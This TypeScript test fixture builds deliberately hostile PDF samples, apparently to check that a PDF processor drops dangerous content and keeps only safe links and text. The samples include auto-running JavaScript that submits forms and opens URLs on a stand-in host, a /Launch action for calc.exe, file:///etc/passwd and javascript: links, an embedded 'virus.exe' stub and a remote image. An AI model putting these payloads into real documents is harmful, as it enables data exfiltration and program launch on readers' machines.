import type { SampleSet } from './sample.ts'
import { line, onePage, stream } from './write-pdf.ts'

const script =
  '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elders.example/f"\\); app.launchURL\\("https://elders.example/l", true\\))'
const uri = (address: string) => `/S /URI /URI (${address})`
const actions = [
  uri('https://kliniek.example/a'),
  uri('mailto:zorg@kliniek.example'),
  uri('tel:+31100000000'),
  uri('http://kliniek.example/b'),
  uri('javascript:alert\\(1\\)'),
  uri('data:text/html,x'),
  uri('file:///etc/passwd'),
  uri('ftp://elders.example/x'),
  uri('vbscript:x'),
  uri('blob:https://elders.example/x'),
  uri('//elders.example/x'),
  uri('intent://x'),
  '/S /Launch /F (calc.exe)',
  script,
  '/S /SubmitForm /F (https://elders.example/s)',
  '/S /GoToR /F (elders.pdf) /D [0 /Fit]',
  '/S /ImportData /F (x.fdf)',
  '/S /Named /N /Print',
]

export const danger: SampleSet = {
  'links of every scheme': {
    bytes: onePage({
      content: line('Verwijzingen', 64, 800),
      page: `/Annots [${actions.map((_, at) => `${6 + at} 0 R`).join(' ')}]`,
      more: actions.map(
        (action, at) =>
          `<< /Type /Annot /Subtype /Link /Rect [64 ${740 - 40 * at} 300 ${764 - 40 * at}] /Border [0 0 1] /A << ${action} >> >>`,
      ),
    }),
    pages: 1,
    words: ['Verwijzingen'],
    links: ['https://kliniek.example/a', 'mailto:zorg@kliniek.example', 'tel:+31100000000'],
  },
  'scripts everywhere': {
    bytes: onePage({
      content: line('Recept'),
      catalogue: `/OpenAction << ${script} >> /AA << /WC << ${script} >> /DP << ${script} >> >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> /AcroForm << /Fields [6 0 R] /CO [6 0 R] >>`,
      page: `/AA << /O << ${script} >> /C << ${script} >> >> /Annots [6 0 R]`,
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /F 4 /Rect [64 600 264 624] /DA (/F 12 Tf 0 g) /AA << /C << ${script} >> /F << ${script} >> >> >>`,
      ],
    }),
    pages: 1,
    words: ['Recept'],
  },
  'attachments and pictures from elsewhere': {
    bytes: onePage({
      content: `${line('Bijlagen')} q 100 0 0 100 100 400 cm /P Do Q`,
      resources: '/XObject << /P 9 0 R >>',
      catalogue: '/Names << /EmbeddedFiles << /Names [(virus.exe) 6 0 R] >> >>',
      page: '/Annots [8 0 R]',
      more: [
        '<< /Type /Filespec /F (virus.exe) /EF << /F 7 0 R >> >>',
        stream('MZ', '/Type /EmbeddedFile'),
        '<< /Type /Annot /Subtype /FileAttachment /F 4 /FS 6 0 R /Rect [300 600 320 620] /Contents (Zie bijlage) >>',
        '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://elders.example/p.png) >> /Length 0 >>\nstream\n\nendstream',
      ],
    }),
    pages: 1,
    words: ['Bijlagen', 'note: Zie bijlage'],
  },
}
